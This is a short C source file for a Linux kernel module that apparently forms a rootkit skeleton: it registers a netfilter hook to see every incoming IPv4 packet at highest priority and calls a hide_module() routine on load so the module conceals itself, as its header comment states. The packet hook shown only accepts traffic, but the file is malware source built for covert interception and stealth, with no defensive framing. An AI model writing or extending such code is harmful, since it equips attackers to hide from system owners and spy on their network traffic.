/* Sees every incoming packet; hides itself. */
#include "intruder.h"
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <net/net_namespace.h>

static unsigned int hook(void *priv, struct sk_buff *skb, const struct nf_hook_state *state) {
    return NF_ACCEPT;
}

static const struct nf_hook_ops ops = {
    .hook = hook, .pf = NFPROTO_IPV4, .hooknum = NF_INET_PRE_ROUTING, .priority = NF_IP_PRI_FIRST};

static int __init begin(void) {
    hide_module();
    return nf_register_net_hook(&init_net, &ops);
}
module_init(begin);
